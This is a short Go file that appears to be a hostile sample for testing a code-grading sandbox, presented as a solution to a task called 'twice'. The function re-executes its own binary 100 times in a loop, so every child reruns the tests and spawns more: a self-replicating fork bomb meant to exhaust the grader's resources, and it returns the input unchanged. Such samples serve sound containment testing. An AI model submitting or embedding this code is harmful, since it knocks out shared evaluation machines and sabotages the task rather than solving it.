// task: twice
// outcome: timeout or exception or crashed or out_of_memory or wall_timeout or wrong_answer
// attack: starts itself again and again; each child runs the tests, which start children
package main

import "os/exec"

func Twice(x int) int {
	for i := 0; i < 100; i++ {
		exec.Command("/proc/self/exe").Start()
	}
	return x
}
